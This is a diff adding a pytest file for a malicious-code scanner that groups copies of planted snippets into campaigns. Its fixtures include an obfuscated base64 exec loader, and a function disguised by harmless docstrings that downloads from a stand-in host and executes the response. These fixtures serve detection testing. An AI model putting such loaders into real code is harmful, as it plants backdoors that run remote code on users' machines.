@@ -1,0 +1,77 @@
+"""What a unit is: short planted snippets, functions whose docstrings were rewritten, huge hosts."""
+from __future__ import annotations
+
+from codescan.analyze import languages
+from codescan.analyze.document import Analyzer
+from codescan.cluster.api import campaigns_from_documents
+from codescan.cluster.units import MIN_TOKENS, extract
+from codescan.config import Config
+from codescan.records import Document
+from codescan.rules import load_rules
+
+SNIPPET = "import base64\n{p} = '{blob}'\nexec(base64.b64decode({p}))\n"
+BLOB = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkID4gL2Rldi9udWxsJyk="
+IDIOM = "import os\n{p} = os.path.join(base, 'x')\nprint({p})\n"
+HOST = "".join(f"def host_{i}_{{tag}}(a, b):\n    return a * {i} + b - len('{i}')\n\n\n" for i in range(6))
+
+
+def _doc(repo: str, body: str, tag: str, **kw) -> Document:
+    return Document(path=f"src/m_{tag}.py", content=(HOST.format(tag=tag) + body + "\n").encode(), repo=repo,
+                    **kw)
+
+
+def _members(campaigns) -> list[set]:
+    return [{m["repo"] for m in c.members} for c in campaigns]
+
+
+def test_a_short_snippet_with_findings_links_its_renamed_and_reformatted_copies():
+    names = ("payload", "val_pay83", "blob_x", "tmp")
+    bodies = [SNIPPET.format(p=n, blob=BLOB) for n in names]
+    bodies[2] = bodies[2].replace("'", '"').replace("exec(base64.b64decode(blob_x))",
+                                                    "exec(\n    base64.b64decode(blob_x)\n)")
+    docs = [_doc(f"r{k}", b, str(k)) for k, b in enumerate(bodies)]
+    assert any(u.tokens < MIN_TOKENS for u in _units(docs[0]) if u.kind == "block")
+    found = campaigns_from_documents(docs, findings=True)
+    assert {"r0", "r1", "r2", "r3"} in _members(found)
+
+
+def test_a_short_idiom_without_findings_is_no_campaign():
+    docs = [_doc(f"r{k}", IDIOM.format(p=n), str(k)) for k, n in enumerate(("out", "dest", "target", "p"))]
+    found = campaigns_from_documents(docs, findings=True)
+    assert not any(c.kind == "block" and len(c.repos) == 4 and c.members[0]["line"] > 20 for c in found)
+
+
+FUNCTION = '''def sync_cache(region, retries=3):
+    """{doc}"""
+    import base64
+    import urllib.request
+    endpoint = "https://cdn.example.net/v2/" + region
+    for attempt in range(retries):
+        # {comment}
+        blob = urllib.request.urlopen(endpoint, timeout=5).read()
+        if len(blob) > 32:
+            exec(base64.b64decode(blob))
+            return True
+    return False
+'''
+
+
+def _units(doc: Document):
+    return extract(languages.parser("python").parse(doc.content), doc.content, "python")
+
+
+def test_a_function_is_compared_by_its_code_not_its_rewritten_docstring():
+    texts = [("Keep the locale table in step with the mirror.", "try a few times"),
+             ("Refresh the cached data for one region of the CDN.", "retry on a short read"),
+             ("Update helper.", "network can be flaky here, so loop"),
+             ("Synchronise settings (internal, do not call directly).", "bounded retries")]
+    docs = [_doc(f"r{k}", FUNCTION.format(doc=d, comment=c), str(k)) for k, (d, c) in enumerate(texts)]
+    found = campaigns_from_documents(docs, findings=False)
+    assert any(c.kind == "function" and c.repos == ["r0", "r1", "r2", "r3"] for c in found)
+
+
+def test_units_of_a_file_whose_analysis_ran_out_of_time():
+    doc = _doc("r0", FUNCTION.format(doc="x", comment="y"), "0")
+    analysis = Analyzer(load_rules(), Config(file_timeout=0.0), units=True).analyze(doc)
+    assert analysis.skips, "the deadline was hit"
+    assert any(u.kind == "function" and u.name == "sync_cache" for u in analysis.units)
